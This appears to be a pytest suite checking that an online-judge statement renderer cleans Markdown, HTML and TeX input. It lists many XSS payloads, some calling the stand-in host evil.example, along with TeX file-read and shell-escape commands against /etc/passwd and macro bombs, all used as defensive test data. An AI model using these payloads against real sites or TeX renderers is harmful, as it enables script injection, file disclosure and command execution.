"""Nothing in a statement runs, loads from elsewhere, or reaches out of its place."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from deepoj_packages.statements.markdown import markdown_html
from deepoj_packages.statements.sanitise import (
    ASSET_BEGIN,
    ASSET_END,
    OversizeError,
    lost_images,
    sanitised,
    without_marks,
)
from deepoj_packages.statements.tex import PandocError, tex_html

ASSETS = {"tree.png": True, "fig/a b.png": True, "notes.zip": False}
ELEMENTS = re.compile(
    r"script|style|iframe|form|input|button|meta|base|link|svg|object|embed|video|audio|template|maction|annotation.*|mglyph|malignmark|foreignobject|noscript|textarea|select|title"
)
ATTRIBUTES = frozenset({
    "href", "src", "title", "alt", "rel", "width", "height", "align", "colspan", "rowspan", "start",
    "display",
})  # fmt: skip
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onclick=alert(1) onmouseover='x'>a</b>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='//evil.example/'>a</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 1x' src=tree.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)' class=admin id=app name=form>a</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<object data='x'></object><embed src='x'>",
    "<video src='https://evil.example' autoplay></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><select><option>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'><mi>x</mi></maction></math>",
    "<math href='javascript:alert(1)'><mi href='javascript:x' xlink:href='javascript:x'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><semantics><annotation encoding='x'><script>alert(1)</script></annotation></semantics></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi style='color:red' class=x id=y>x</mi></math>",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "<p title='\"><script>alert(1)</script>'>a</p>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<plaintext><script>alert(1)</script>",
]


class Seen(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert not ELEMENTS.fullmatch(tag), tag
        for name, value in attrs:
            assert name in ATTRIBUTES or tag.startswith("m"), (tag, name)
            assert not name.startswith("on"), name
            assert name not in {"style", "class", "id", "name", "xlink:href"}, name
            if name == "src":
                assert (value or "").startswith(ASSET_BEGIN)
            if name == "href":
                assert tag == "a"
                assert re.match(rf"https?://|mailto:|{ASSET_BEGIN}", value or "")


def assert_harmless(html: str) -> None:
    seen = Seen()
    seen.feed(html)
    seen.close()
    assert "<!--" not in html
    # What a browser makes of it must not be something else: it is as it was when it is cleaned again.
    assert sanitised(html.replace(ASSET_BEGIN, "").replace(ASSET_END, ""), ASSETS) == html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_in_markdown_is_taken_out(source: str) -> None:
    for text in (
        source,
        f"a\n\n{source}\n\nb",
        f"a {source} b",
        f"- > {source}",
        f"| a |\n|---|\n| {source} |",
    ):
        assert_harmless(sanitised(markdown_html(text), ASSETS))


@pytest.mark.parametrize(
    "source",
    [
        "[a](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "![a](https://evil.example/x.png)",
        "![a](javascript:alert(1))",
        '[a](https://e.org "x\\" onclick=alert(1)")',
        '![a](tree.png "x\\" onerror=alert(1)")',
        "[a]: javascript:alert(1)\n\n[a]",
        r"$\href{javascript:alert(1)}{x}$",
        r"$\style{background:url(x)}{x}$",
        r"$\class{admin}{x}$",
        r"$\text{<script>alert(1)</script>}$",
        "$<img src=x onerror=alert(1)>$",
        "$$\n</math><script>alert(1)</script>\n$$",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
    ],
)
def test_hostile_markdown_is_taken_out(source: str) -> None:
    assert_harmless(sanitised(markdown_html(source), ASSETS))


@pytest.mark.parametrize(
    "source",
    [
        r"\href{javascript:alert(1)}{a}",
        r"\url{javascript:alert(1)}",
        r"\includegraphics{https://evil.example/x.png}",
        r"\begin{rawhtml}<script>alert(1)</script>\end{rawhtml}",
        r"\begin{html}<script>alert(1)</script>\end{html}",
        r"<script>alert(1)</script> $<script>alert(1)</script>$",
        r"$\text{<img src=x onerror=alert(1)>}$",
        r"$\href{javascript:alert(1)}{x}$",
        r"\begin{verbatim}<script>alert(1)</script>\end{verbatim}",
        r"\section{a}\label{\"><script>}",
    ],
)
def test_hostile_tex_is_taken_out(source: str) -> None:
    assert_harmless(sanitised(tex_html(source), ASSETS))


@pytest.mark.parametrize(
    "source",
    [
        r"\input{/etc/passwd}",
        r"\include{/etc/passwd}",
        r"\verbatiminput{/etc/passwd}",
        r"\lstinputlisting{/etc/passwd}",
        r"\usepackage{/etc/passwd}",
        r"\immediate\write18{cat /etc/passwd}",
        r"\openin5=/etc/passwd \read5 to\x \x",
        r"\input{|cat /etc/passwd}",
        r"\includegraphics{/etc/passwd}",
        r"\bibliography{/etc/passwd}",
    ],
)
def test_tex_reads_no_file_and_runs_nothing(source: str) -> None:
    assert "root:" not in sanitised(tex_html(f"Before. {source} after."), ASSETS)


@pytest.mark.parametrize(
    "source",
    [
        r"\newcommand{\a}{\b\b}\newcommand{\b}{\c\c}\newcommand{\c}{\d\d}" * 4
        + "".join(rf"\newcommand{{\x{chr(97 + n)}}}{{\x{chr(98 + n)}\x{chr(98 + n)}}}" for n in range(25))
        + r"\newcommand{\xz}{yyyyyyyy}\xa",
        r"\def\a{\a}\a",
    ],
)
def test_macro_bombs_of_tex_end(source: str) -> None:
    try:
        made = tex_html(source)
    except PandocError:
        return
    assert len(made) < 100_000


def test_images_and_links_name_assets_or_nothing() -> None:
    made = sanitised(
        markdown_html(
            "![a](tree.png) ![b](./fig/a%20b.png) [c](notes.zip) [d](https://e.org/?a=1&b=2) [e](x.md)"
        ),
        ASSETS,
    )
    assert f'<img src="{ASSET_BEGIN}tree.png{ASSET_END}" alt="a">' in made
    assert f'src="{ASSET_BEGIN}fig/a%20b.png{ASSET_END}"' in made
    rel = 'rel="noopener noreferrer nofollow"'
    assert f'<a href="{ASSET_BEGIN}notes.zip{ASSET_END}" {rel}>c</a>' in made
    assert f'<a href="https://e.org/?a=1&amp;b=2" {rel}>d</a>' in made
    assert f"<a {rel}>e</a>" in made


def test_a_text_cannot_write_the_marks_of_an_asset() -> None:
    text = without_marks(f'<img src="{ASSET_BEGIN}tree.png{ASSET_END}"> {ASSET_BEGIN}x')
    assert ASSET_BEGIN not in sanitised(markdown_html(text), ASSETS)


def test_tables_keep_their_alignment_and_code_its_text() -> None:
    made = sanitised(markdown_html("|a|b|\n|-:|:-:|\n|1|2|\n\n```c\na < b\n```\n"), {})
    assert '<th align="right">a</th>' in made
    assert '<td align="center">2</td>' in made
    assert "<pre><code>a &lt; b\n</code></pre>" in made


def test_tex_of_packages_is_shown_with_its_figures_and_macros() -> None:
    made = sanitised(
        tex_html(
            r"\problemname{Trees} \newcommand{\maxn}{10^5} Let $n \le \maxn$."
            "\n\n"
            r"\illustration{0.4}{tree}{A tree} \section*{Input} $\nosuchthing{x}$"
            "\n\n"
            r"\begin{tabular}{lr} a & b \\ c & d \end{tabular}"
        ),
        ASSETS,
    )
    assert "<msup><mn>10</mn><mn>5</mn></msup>" in made
    assert f'<img src="{ASSET_BEGIN}tree.png{ASSET_END}"' in made
    assert "<figcaption>A tree</figcaption>" in made
    assert "<h2>Input</h2>" in made
    assert r"<code>\nosuchthing{x}</code>" in made
    assert "Trees" not in made
    assert '<td align="right">' in made or '<th align="right">' in made


@pytest.mark.parametrize("html", ["<b>" * 1000, "<p>" + "a&" * 600_000], ids=["deep", "large"])
def test_what_is_too_large_for_a_browser_is_refused(html: str) -> None:
    with pytest.raises(OversizeError):
        sanitised(html, {})


def test_pictures_that_the_package_lacks_are_named_once() -> None:
    html = '<img src="a.png"><IMG SRC=b><img src="./a.png"><img><img src="c.txt"><img src="http://x/d">' * 2
    assert lost_images(html, {"a.png": True, "b.svg": True, "c.txt": False}) == [
        "without a name",
        "c.txt",
        "http://x/d",
    ]
